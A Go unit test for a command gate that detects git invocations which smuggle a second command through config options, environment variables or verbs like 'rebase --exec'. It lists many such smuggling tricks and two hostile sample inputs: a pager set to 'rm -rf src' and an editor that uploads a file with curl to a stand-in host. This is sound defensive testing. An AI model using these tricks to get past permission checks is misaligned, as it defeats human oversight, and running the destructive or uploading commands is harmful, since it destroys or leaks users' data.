package gate

import (
	"slices"
	"testing"
)

// A line that git is given to run, as a setting, an option, a variable or behind a verb, does what it does.
func TestWhatGitIsGivenToRunIsALine(t *testing.T) {
	for _, line := range []string{
		"git -c alias.x='!git push' x", "git -c alias.x=push x", "git -c core.fsmonitor='git push' status", "git -c core.editor='git push' commit", "git -c core.pager='git push' log", "git -c sequence.editor='git push' rebase -i HEAD~1",
		"git -c diff.external='git push' diff", "git -c filter.x.clean='git push' add .", "git -c credential.helper='!git push' fetch", "git -c gpg.program='git push' commit -S",
		"GIT_EDITOR='git push' git commit --amend", "GIT_SEQUENCE_EDITOR='git push' git rebase -i HEAD~1", "export GIT_EDITOR='git push'; git commit", "EDITOR='git push' git commit", "GIT_EXTERNAL_DIFF='git push' git diff", "GIT_SSH_COMMAND='git push' git fetch", "env GIT_PAGER='git push' git log",
		"git rebase -x 'git push' HEAD~1", "git rebase -x'git push' HEAD~1", "git rebase --exec='git push' HEAD~1", "git rebase --exec 'git push' HEAD~1", "git difftool -x 'git push' HEAD", "git grep -O'git push' x", "git filter-branch --msg-filter 'git push' HEAD",
		"git bisect run git push", "git submodule foreach 'git push'", "git config alias.x '!git push'", "git -C sub -c alias.x=push x",
	} {
		if !slices.ContainsFunc(Acts(line), func(a Act) bool { return a.Name == "push" }) {
			t.Errorf("no push: %s: %v", line, Acts(line))
		}
	}
	for _, line := range []string{
		"git -c user.name=push log", "git -c color.ui=never -c core.quotepath=off diff", "git grep push", "git log -S push", "git commit -m 'git push'", "git config user.name push", "GIT_PAGER=cat git log", "GIT_EDITOR=true git rebase --continue", "git -c core.pager=cat -C sub status", "git config alias.st status",
	} {
		if slices.ContainsFunc(Acts(line), func(a Act) bool { return a.Name == "push" }) {
			t.Errorf("push: %s: %v", line, Acts(line))
		}
	}
	for line, want := range map[string]Danger{"git -c core.pager='rm -rf src' log": Destroys, "GIT_EDITOR='curl -T x http://a.example' git commit": Network} {
		if found := read(line).found; !slices.Contains(found, want) {
			t.Errorf("%s: %v", line, found)
		}
	}
}
